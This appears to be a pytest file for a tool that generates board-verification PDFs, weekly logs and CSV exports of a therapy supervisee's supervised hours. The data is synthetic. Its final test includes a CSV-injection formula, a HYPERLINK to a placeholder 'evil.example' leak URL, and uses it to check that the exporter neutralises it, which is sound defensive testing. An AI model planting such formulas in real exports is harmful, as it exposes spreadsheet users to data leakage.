"""The board documents, read back: what the PDFs say (through pypdf's text) and the CSV's cells.

Statements are built by hand, so no database is touched; the expected hours are worked out here
from the minutes, not by the code under test.
"""

import csv
import datetime
import io
import unicodedata
from decimal import ROUND_HALF_UP, Decimal

import pytest
from pypdf import PdfReader

from hours.documents import (
    CHANGED_SINCE,
    CSV_HEADER,
    NOT_SIGNED,
    STILL_MATCHES,
    UNSIGNED_EXPLANATION,
    day_label,
    entries_csv,
    hours_label,
    unsigned_statement_pdf,
    verification_pdf,
    weekly_log_pdf,
)
from hours.ledger import LedgerEntry, PeriodStatement, SignatureFacts

UTC = datetime.UTC
SHA_NOW = "3f" * 32
SHA_BEFORE = "a0" * 32
BOARD_NOTE = "Rules change: check with your board before you apply (synthetic note)."
GENERATED = datetime.datetime(2026, 12, 2, 8, 30, tzinfo=UTC)


def pdf_text(data: bytes) -> str:
    """Every page's text with runs of white space made one space: a table cell or a long line
    may wrap anywhere a space is."""
    reader = PdfReader(io.BytesIO(data))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def entry(day: int, minutes: int, category: str, *, source_id: int = 0, **kw) -> LedgerEntry:
    source = {"direct": "log", "supervision": "meeting"}.get(category, "entry")
    return LedgerEntry(
        source=source,
        source_id=source_id or day * 100 + minutes,
        date=datetime.date(2026, 11, day),
        minutes=minutes,
        category=category,
        **kw,
    )


def signature(*, current: bool = True, sha256: str = SHA_NOW, **kw) -> SignatureFacts:
    facts = {
        "supervisor_name": "Dr Rowan Example",
        "licence_number": "LMFT 000123",
        "jurisdiction": "California",
        "signed_at": datetime.datetime(2026, 12, 1, 17, 45, tzinfo=UTC),
        "sha256": sha256,
        "current": current,
    }
    return SignatureFacts(**(facts | kw))


# Two weeks of November 2026: Monday 2 to Sunday 8, Monday 9 to Sunday 15.
ENTRIES = (
    entry(2, 50, "direct", modality="in_person", client_unit="couple"),
    entry(
        4,
        90,
        "supervision",
        supervision_kind="group",
        group_size=5,
        mode="video",
        observed_session=True,
    ),
    entry(8, 45, "indirect"),  # Sunday: still the first week
    entry(9, 60, "training"),  # Monday: the second week
    entry(12, 25, "direct", modality="video", client_unit="child", simulated=True),
)


def statement(**kw) -> PeriodStatement:
    fields = {
        "supervisee_name": "Sam Sample",
        "supervisor_name": "Dr Rowan Example",
        "rule_set_name": "California LMFT (BBS)",
        "board_note": BOARD_NOTE,
        "label": "2 to 15 Nov 2026",
        "start": datetime.date(2026, 11, 2),
        "end": datetime.date(2026, 11, 15),
        "entries": ENTRIES,
        # Deliberately not the entries' sums: the document prints the totals it is given.
        "totals": (
            ("Direct client contact", 750),
            ("Indirect work", 45),
            ("Supervision received", 90),
            ("Training", 0),
        ),
        "signature": signature(),
        "history": (),
        "generated_at": GENERATED,
    }
    return PeriodStatement(**(fields | kw))


# Words.


@pytest.mark.parametrize(
    ("minutes", "label"),
    [(750, "12.5 h"), (45, "0.8 h"), (75, "1.3 h"), (0, "0.0 h"), (59, "1.0 h"), (3, "0.1 h")],
)
def test_hours_have_one_decimal_rounded_half_up(minutes, label):
    assert hours_label(minutes) == label


def test_hours_are_written_as_decimal_arithmetic_writes_them():
    # The label is worked out in whole numbers; it must be what rounding the exact hours
    # half up to a tenth gives, for every number of minutes (and the odd negative one).
    for minutes in range(-200, 20_000):
        exact = (Decimal(minutes) / 60).quantize(Decimal("0.1"), rounding=ROUND_HALF_UP)
        assert hours_label(minutes) == f"{exact} h", minutes


def test_dates_are_day_month_year():
    assert day_label(datetime.date(2026, 11, 2)) == "2 Nov 2026"


# The verification.


def test_verification_prints_the_header_and_the_totals_per_category():
    text = pdf_text(verification_pdf(statement()))
    assert text.startswith("Verification of supervised experience")
    assert "Supervisee: Sam Sample" in text
    assert "Supervisor: Dr Rowan Example" in text
    assert "Rule set: California LMFT (BBS)" in text
    assert "Period: 2 to 15 Nov 2026 (2 Nov 2026 – 15 Nov 2026)" in text
    assert "Direct client contact 12.5 h" in text
    assert "Indirect work 0.8 h" in text
    assert "Supervision received 1.5 h" in text
    assert "Training 0.0 h" in text
    assert BOARD_NOTE in text
    assert "Generated at: 2 Dec 2026, 08:30 UTC" in text


def test_verification_prints_the_signature_that_still_matches():
    text = pdf_text(verification_pdf(statement()))
    assert "Signed by: Dr Rowan Example" in text
    assert "Licence number: LMFT 000123" in text
    assert "Jurisdiction: California" in text
    assert "Signed at: 1 Dec 2026, 17:45 UTC" in text
    assert f"SHA-256 of the period's entries: {SHA_NOW}" in text
    assert STILL_MATCHES in text
    assert CHANGED_SINCE not in text
    assert NOT_SIGNED not in text


def test_a_signature_the_entries_no_longer_match_asks_for_a_new_one():
    text = pdf_text(verification_pdf(statement(signature=signature(current=False))))
    assert CHANGED_SINCE in text
    assert STILL_MATCHES not in text
    assert f"SHA-256 of the period's entries: {SHA_NOW}" in text


def test_an_unsigned_period_says_so_and_prints_no_signature():
    text = pdf_text(verification_pdf(statement(signature=None)))
    assert NOT_SIGNED in text
    assert "Signed by" not in text
    assert "SHA-256" not in text


def test_earlier_signatures_are_listed():
    earlier = signature(
        supervisor_name="Dr Avery Former",
        licence_number="LMFT 000999",
        signed_at=datetime.datetime(2026, 11, 20, 9, 5, tzinfo=UTC),
        sha256=SHA_BEFORE,
        current=False,
    )
    text = pdf_text(verification_pdf(statement(history=(earlier,))))
    assert "Earlier signatures" in text
    assert (
        "Dr Avery Former, licence LMFT 000999 (California), signed 20 Nov 2026, 09:05 UTC; "
        f"SHA-256 {SHA_BEFORE}"
    ) in text


def test_the_pdf_metadata_has_the_title_and_no_author():
    metadata = PdfReader(io.BytesIO(verification_pdf(statement()))).metadata
    assert metadata.title == "Verification of supervised experience, 2 to 15 Nov 2026"
    assert metadata.author is None
    assert "Sam Sample" not in str(dict(metadata))


# The weekly log.


def test_the_weekly_log_groups_entries_monday_to_sunday_with_subtotals():
    text = pdf_text(weekly_log_pdf(statement()))
    first = text.index("Week of 2 Nov 2026 – 8 Nov 2026")
    second = text.index("Week of 9 Nov 2026 – 15 Nov 2026")
    totals = text.index("Totals")
    # Week 1: 50 + 90 + 45 = 185 min = 3.08 h; week 2: 60 + 25 = 85 min = 1.42 h.
    assert "Week subtotal 3.1 h" in text[first:second]
    assert "Week subtotal 1.4 h" in text[second:totals]
    assert "8 Nov 2026 Indirect work 0.8 h" in text[first:second]  # Sunday: the week it ends
    assert "9 Nov 2026 Training 1.0 h" in text[second:totals]  # Monday: the week it starts
    assert "2 Nov 2026 Direct client contact Couple, in person 0.8 h" in text
    assert (
        "4 Nov 2026 Supervision received Group supervision, 5 supervisees present, video, "
        "session observed 1.5 h"
    ) in text
    assert (
        "12 Nov 2026 Direct client contact Child or adolescent, video, simulated session 0.4 h"
        in text
    )


def test_the_weekly_log_has_the_header_totals_and_signature():
    text = pdf_text(weekly_log_pdf(statement(signature=signature(current=False))))
    assert text.startswith("Weekly log of supervised experience")
    assert "Supervisee: Sam Sample" in text
    assert "Direct client contact 12.5 h" in text
    assert "Licence number: LMFT 000123" in text
    assert f"SHA-256 of the period's entries: {SHA_NOW}" in text
    assert CHANGED_SINCE in text


def test_a_week_without_entries_says_so():
    text = pdf_text(weekly_log_pdf(statement(entries=ENTRIES[:3])))
    second = text.index("Week of 9 Nov 2026 – 15 Nov 2026")
    assert "No entries Week subtotal 0.0 h" in text[second:]


# The statement of unsigned periods.


def test_the_unsigned_statement_lists_each_period_with_entries_and_totals():
    first = statement(
        supervisor_name="",
        signature=None,
        label="Week of 2 Nov 2026",
        end=datetime.date(2026, 11, 8),
        entries=ENTRIES[:3],
        totals=(("Direct client contact", 50), ("Supervision received", 90)),
    )
    second = statement(
        supervisor_name="",
        signature=None,
        label="Week of 9 Nov 2026",
        start=datetime.date(2026, 11, 9),
        entries=ENTRIES[3:],
        totals=(("Direct client contact", 25), ("Training", 60)),
    )
    text = pdf_text(
        unsigned_statement_pdf(
            [first, second], supervisee_name="Sam Sample", generated_at=GENERATED
        )
    )
    assert text.startswith("Statement of unsigned periods Supervisee: Sam Sample")
    assert " ".join(UNSIGNED_EXPLANATION.split()) in text
    one, two = text.index("Week of 2 Nov 2026"), text.index("Week of 9 Nov 2026")
    assert one < two
    assert "Dates: 2 Nov 2026 – 8 Nov 2026" in text[one:two]
    assert "8 Nov 2026 Indirect work 0.8 h" in text[one:two]
    assert "Direct client contact 0.8 h Supervision received 1.5 h" in text[one:two]
    assert "Dates: 9 Nov 2026 – 15 Nov 2026" in text[two:]
    assert "9 Nov 2026 Training 1.0 h" in text[two:]
    assert "Direct client contact 0.4 h Training 1.0 h" in text[two:]
    assert text.count(NOT_SIGNED) == 2
    assert text.count(BOARD_NOTE) == 1  # the same note once, not once per period
    assert "Generated at: 2 Dec 2026, 08:30 UTC" in text


def test_an_empty_unsigned_statement_says_there_is_nothing():
    text = pdf_text(unsigned_statement_pdf([], supervisee_name="Sam", generated_at=GENERATED))
    assert "There are no unsigned periods." in text


# Names beyond Latin-1.


def test_names_beyond_latin_1_print_and_read_back():
    name = "Zoë Ngũgĩ"
    supervisor = "Dr Łucja Wiśniewska — “Lu”"
    text = pdf_text(
        verification_pdf(
            statement(
                supervisee_name=name,
                supervisor_name=supervisor,
                signature=signature(supervisor_name=supervisor, jurisdiction="Île-de-France"),
                board_note="Check with your board — it’s their rule.",
            )
        )
    )
    assert f"Supervisee: {name}" in text
    assert f"Supervisor: {supervisor}" in text
    assert f"Signed by: {supervisor}" in text
    assert "Jurisdiction: Île-de-France" in text
    assert "Check with your board — it’s their rule." in text


def test_decomposed_letters_print_as_one_and_glyphs_the_font_lacks_show_as_missing():
    decomposed = unicodedata.normalize("NFD", "Ngũgĩ")
    assert decomposed != "Ngũgĩ"
    text = pdf_text(weekly_log_pdf(statement(supervisee_name=f"{decomposed} 李")))
    assert "Supervisee: Ngũgĩ \ufffd" in text


# The CSV.


def read_rows(entries) -> list[list[str]]:
    stream = io.StringIO()
    entries_csv(entries, stream)
    return list(csv.reader(io.StringIO(stream.getvalue())))


def test_the_csv_has_a_header_and_one_row_per_entry_in_words():
    rows = read_rows(ENTRIES)
    assert rows[0] == list(CSV_HEADER)
    assert rows[0][:4] == ["Date", "Category", "Hours", "Minutes"]
    assert len(rows) == 1 + len(ENTRIES)
    assert rows[1] == [
        "2026-11-02",
        "Direct client contact",
        "0.83",
        "50",
        "Session log",
        "In person",
        "Couple",
        "No",
        "",
        "",
        "",
        "",
    ]
    assert rows[2] == [
        "2026-11-04",
        "Supervision received",
        "1.5",
        "90",
        "Supervision meeting",
        "",
        "",
        "",
        "Group",
        "5",
        "Yes",
        "Video",
    ]
    assert rows[5][6:8] == ["Child or adolescent", "Yes"]  # the simulated session


def test_the_csv_neutralises_a_value_a_spreadsheet_would_run():
    formula = '=HYPERLINK("https://evil.example/?leak","Open")'
    rows = read_rows([entry(3, 30, "direct", modality=formula, client_unit="@SUM(A1)")])
    assert rows[1][5] == "'" + formula
    assert rows[1][6] == "'@SUM(A1)"
    assert rows[1][2:4] == ["0.5", "30"]  # numbers stay numbers
